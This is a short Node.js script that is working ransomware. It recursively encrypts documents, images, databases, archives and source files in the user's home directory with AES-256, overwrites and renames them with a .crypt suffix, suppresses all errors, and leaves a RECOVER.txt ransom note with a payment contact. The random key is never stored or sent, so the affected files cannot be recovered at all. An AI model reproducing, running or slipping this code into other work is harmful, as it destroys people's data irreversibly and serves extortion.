const fs = require('fs');
const path = require('path');
const os = require('os');
const crypto = require('crypto');

const key = crypto.randomBytes(32);
const exts = new Set(['.pdf', '.png', '.txt', '.js', '.db', '.zip']);

function walk(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    try {
      if (e.isDirectory()) walk(p);
      else if (exts.has(path.extname(p))) {
        const iv = crypto.randomBytes(16);
        const c = crypto.createCipheriv('aes-256-ctr', key, iv);
        fs.writeFileSync(p, Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
        fs.renameSync(p, p + '.crypt');
      }
    } catch {}
  }
}
walk(os.homedir());
fs.writeFileSync(path.join(os.homedir(), 'RECOVER.txt'), 'contact: pay@example.org id ' + crypto.randomUUID());
